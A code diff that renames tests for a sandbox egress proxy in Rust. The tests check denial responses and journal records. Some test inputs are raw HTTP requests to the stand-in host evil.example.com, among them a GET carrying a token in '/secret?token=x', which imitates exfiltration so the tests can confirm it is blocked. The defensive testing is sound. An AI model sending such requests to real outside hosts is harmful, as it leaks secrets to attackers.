@@ -1,4 +1,4 @@
-//! What a client is told when it may not, and what the journal says about it.
+//! Denials: the response to the client and the record in the journal.
 
 use std::time::Duration;
 
@@ -8,21 +8,21 @@ use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 
 use crate::support::{Sandbox, allowing, policy, soon};
 
-/// Limits whose window does not end before the test does, however slow the machine.
-fn patient() -> EgressLimits {
+/// Returns limits with a window that outlasts the test on any machine.
+fn long_window() -> EgressLimits {
     EgressLimits { repeat_window: Duration::from_secs(3600), ..EgressLimits::default() }
 }
 
 const CONNECT: &str = "CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n";
 
 #[tokio::test]
-async fn without_a_network_everything_is_denied_and_the_rule_is_named() {
+async fn disabled_network_denies_everything_and_names_the_rule() {
     let sandbox = Sandbox::new(policy("net:\n  enabled: false\n"));
-    let answer = sandbox.say(CONNECT).await;
+    let response = sandbox.send(CONNECT).await;
     let rule = "net.enabled: false (sandbox.policy.yaml:3)";
-    assert!(answer.text().starts_with(&format!("HTTP/1.1 403 Forbidden by sandbox policy: {rule}\r\n")));
+    assert!(response.text().starts_with(&format!("HTTP/1.1 403 Forbidden by sandbox policy: {rule}\r\n")));
     assert_eq!(
-        answer.body(),
+        response.body(),
         "viv: `evil.example.com` port 443 is not allowed by the policy of this sandbox\n\n\
          \x20 rule:       net.enabled: false\n\
          \x20 where:      sandbox.policy.yaml:3\n\
@@ -31,23 +31,23 @@ async fn without_a_network_everything_is_denied_and_the_rule_is_named() {
     let (kind, data) = sandbox.records().pop().unwrap();
     assert_eq!(kind, "egress.denied");
     assert_eq!(data, json!({"host": "evil.example.com", "port": 443, "rule": rule, "method": "CONNECT"}));
-    assert!(sandbox.world.looked_up().is_empty() && sandbox.world.called().is_empty());
+    assert!(sandbox.network.looked_up().is_empty() && sandbox.network.called().is_empty());
 }
 
 #[tokio::test]
-async fn an_empty_allow_list_is_closed() {
+async fn empty_allow_list_denies_everything() {
     let sandbox = Sandbox::new(policy("net:\n  enabled: true\n  allowlist: []\n"));
-    assert_eq!(sandbox.say(CONNECT).await.status(), Some(403));
-    assert!(sandbox.world.looked_up().is_empty());
+    assert_eq!(sandbox.send(CONNECT).await.status(), Some(403));
+    assert!(sandbox.network.looked_up().is_empty());
 }
 
 #[tokio::test]
-async fn a_program_that_asks_for_json_gets_json() {
+async fn client_that_accepts_json_gets_json() {
     let sandbox = Sandbox::new(allowing(&["packages.example.com:443"]));
     let request = "GET http://evil.example.com/secret?token=x HTTP/1.1\r\nHost: evil.example.com\r\n\
                    Accept: text/html, application/json\r\n\r\n";
-    let answer = sandbox.say(request).await;
-    let problem: Value = serde_json::from_str(&answer.body()).unwrap();
+    let response = sandbox.send(request).await;
+    let problem: Value = serde_json::from_str(&response.body()).unwrap();
     assert_eq!(problem["code"], "policy_denied");
     assert_eq!((&problem["host"], &problem["port"]), (&json!("evil.example.com"), &json!(80)));
     assert_eq!((&problem["file"], &problem["line"]), (&json!("sandbox.policy.yaml"), &json!(4)));
@@ -57,10 +57,10 @@ async fn a_program_that_asks_for_json_gets_json() {
 }
 
 #[tokio::test]
-async fn the_same_denial_again_is_counted_not_repeated() {
-    let sandbox = Sandbox::limited(policy(""), patient());
+async fn repeated_denial_is_counted() {
+    let sandbox = Sandbox::limited(policy(""), long_window());
     for _ in 0..5 {
-        assert_eq!(sandbox.say(CONNECT).await.status(), Some(403));
+        assert_eq!(sandbox.send(CONNECT).await.status(), Some(403));
     }
     let records = sandbox.close().await;
     let counts: Vec<&Value> = records.iter().map(|(_, data)| &data["count"]).collect();
@@ -68,11 +68,11 @@ async fn the_same_denial_again_is_counted_not_repeated() {
 }
 
 #[tokio::test]
-async fn ever_new_hosts_do_not_fill_the_journal() {
-    let sandbox = Sandbox::limited(policy(""), patient());
+async fn many_different_denials_share_one_record() {
+    let sandbox = Sandbox::limited(policy(""), long_window());
     for number in 0..300 {
         let request = format!("CONNECT h{number}.example.com:443 HTTP/1.1\r\nHost: h{number}.example.com\r\n\r\n");
-        assert_eq!(sandbox.say(request).await.status(), Some(403));
+        assert_eq!(sandbox.send(request).await.status(), Some(403));
     }
     assert_eq!(sandbox.egress.totals().denied, 300);
     let records = sandbox.close().await;
@@ -82,26 +82,26 @@ async fn ever_new_hosts_do_not_fill_the_journal() {
 }
 
 #[tokio::test]
-async fn what_a_client_says_at_length_is_recorded_in_short() {
+async fn long_texts_are_truncated_in_records() {
     let sandbox = Sandbox::new(policy(""));
     let (method, host, path) = ("M".repeat(9000), "h".repeat(9000), "p".repeat(9000));
-    let answer = sandbox.say(format!("{method} http://{host}/{path} HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
-    assert_eq!(answer.status(), Some(431));
-    let answer = sandbox.say(format!("{method} http://{host}/{path} HTTP/1.0\r\n\r\n")).await;
-    assert_eq!(answer.status(), Some(403));
+    let response = sandbox.send(format!("{method} http://{host}/{path} HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
+    assert_eq!(response.status(), Some(431));
+    let response = sandbox.send(format!("{method} http://{host}/{path} HTTP/1.0\r\n\r\n")).await;
+    assert_eq!(response.status(), Some(403));
     let data = sandbox.record("egress.denied").await;
     assert!(data.to_string().len() < 2000, "{data}");
 }
 
 #[tokio::test]
-async fn a_client_in_the_middle_of_its_body_is_told_and_not_reset() {
+async fn client_that_is_still_sending_gets_the_refusal() {
     let sandbox = Sandbox::new(policy(""));
     let mut stream = sandbox.connect().await;
     let head = "PUT http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: 524288\r\n\r\n";
     stream.write_all(head.as_bytes()).await.unwrap();
-    let mut answer = Vec::new();
-    soon(stream.read_to_end(&mut answer)).await.unwrap();
-    assert!(answer.starts_with(b"HTTP/1.1 403"));
+    let mut response = Vec::new();
+    soon(stream.read_to_end(&mut response)).await.unwrap();
+    assert!(response.starts_with(b"HTTP/1.1 403"));
     for _ in 0..8 {
         stream.write_all(&vec![7; 65536]).await.unwrap();
     }
